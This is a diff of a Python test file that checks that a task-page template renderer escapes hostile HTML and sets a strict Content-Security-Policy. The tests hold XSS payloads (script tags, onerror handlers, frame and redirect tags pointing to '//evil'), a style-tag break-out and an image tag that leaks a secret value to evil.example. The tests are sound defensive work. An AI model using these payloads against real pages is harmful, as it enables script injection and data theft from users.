@@ -1,10 +1,12 @@
-"""Templates and inputs are untrusted: nothing of theirs runs, and nothing of theirs leaves its part of the page."""
+"""Templates and inputs are untrusted: nothing of theirs runs, and nothing of theirs leaves its part
+of the page.
+"""
 
 import re
 
 import pytest
 
-from helpers.review import TemplateError, render
+from model_monitoring.review import TemplateError, render
 
 HOSTILE = """<script>alert(1)</script><img src=x onerror="alert(2)"><svg onload="alert(3)"></svg>
 <iframe src="//evil"></iframe><base href="//evil"><meta http-equiv="refresh" content="0;url=//evil">
@@ -25,45 +27,65 @@ def test_nothing_of_a_template_can_act():
 
 def test_a_templates_own_script_is_noted_and_aws_elements_are_not():
     assert "script of its own" in render("<SCRIPT>x()</SCRIPT>", {}).warnings[0]
-    assert not render('<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>', {}).warnings
+    assert not render(
+        '<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>', {}
+    ).warnings
 
 
 def test_a_templates_style_stays_in_its_part():
-    assert re.search(r"<style>@scope \(\.worker-template\) \{\s*p\{color:red\}\s*\}</style>", render(HOSTILE, {}).html)
+    assert re.search(
+        r"<style>@scope \(\.worker-template\) \{\s*p\{color:red\}\s*\}</style>",
+        render(HOSTILE, {}).html,
+    )
 
 
 def test_a_style_that_closes_too_much_ends_nothing():
-    html = render("<style>p{color:red} } b{color:red} @media print { i { color: red }</style>", {}).html
+    html = render(
+        "<style>p{color:red} } b{color:red} @media print { i { color: red }</style>", {}
+    ).html
     style = html.partition("<style>")[2].partition("</style>")[0]
     assert style.startswith("@scope (.worker-template) {") and style.endswith("\n}")
-    assert [style[:end].count("{") - style[:end].count("}") for end in range(30, len(style))][:-1].count(0) == 0
+    assert [style[:end].count("{") - style[:end].count("}") for end in range(30, len(style))][
+        :-1
+    ].count(0) == 0
     assert style.count("{") == style.count("}") == 5
     html = render(r"""<style>p::before{content:"\3c/style>\3cscript>"}</style>after""", {}).html
     assert html.count("</") == 2 and "<script" not in html
 
 
 def test_a_script_in_data_is_text():
-    html = render("<p title='{{ task.input.a }}'>{{ task.input.a }}</p>", {"a": "'><script>alert(1)</script>"}).html
+    html = render(
+        "<p title='{{ task.input.a }}'>{{ task.input.a }}</p>", {"a": "'><script>alert(1)</script>"}
+    ).html
     assert "<script" not in html and "&lt;script&gt;" in html
 
 
 def test_pages_forbid_scripts_but_their_own(anna, store):
     store.add(
-        "1", '<img src="{{ task.input.a | grant_read_access }}"><input name="b">', {"a": "https://host.example/i.png"}
+        "1",
+        '<img src="{{ task.input.a | grant_read_access }}"><input name="b">',
+        {"a": "https://host.example/i.png"},
     )
     answer = anna.get("/tasks/1")
-    policy = dict(part.split(" ", 1) for part in answer.headers["Content-Security-Policy"].split("; "))
+    policy = dict(
+        part.split(" ", 1) for part in answer.headers["Content-Security-Policy"].split("; ")
+    )
     nonce = re.fullmatch(r"'nonce-([\w-]{16,})'", policy["script-src"])[1]
     assert policy["default-src"] == policy["base-uri"] == policy["frame-ancestors"] == "'none'"
     assert policy["form-action"] == policy["connect-src"] == "'self'"
     assert policy["img-src"] == "'self' data: https://host.example"
     assert {script.get("nonce") for script in answer.page.iter("script")} == {nonce}
     assert nonce not in anna.get("/tasks/1").text
-    assert answer.headers["Referrer-Policy"] == "no-referrer" and answer.headers["Cache-Control"] == "no-store"
+    assert (
+        answer.headers["Referrer-Policy"] == "no-referrer"
+        and answer.headers["Cache-Control"] == "no-store"
+    )
 
 
 def test_other_hosts_pictures_are_not_loaded(anna, store):
-    store.add("1", '<img src="https://evil.example/?{{ task.input.a }}"><input name="b">', {"a": "secret"})
+    store.add(
+        "1", '<img src="https://evil.example/?{{ task.input.a }}"><input name="b">', {"a": "secret"}
+    )
     assert "evil" not in anna.get("/tasks/1").headers["Content-Security-Policy"]
 
 
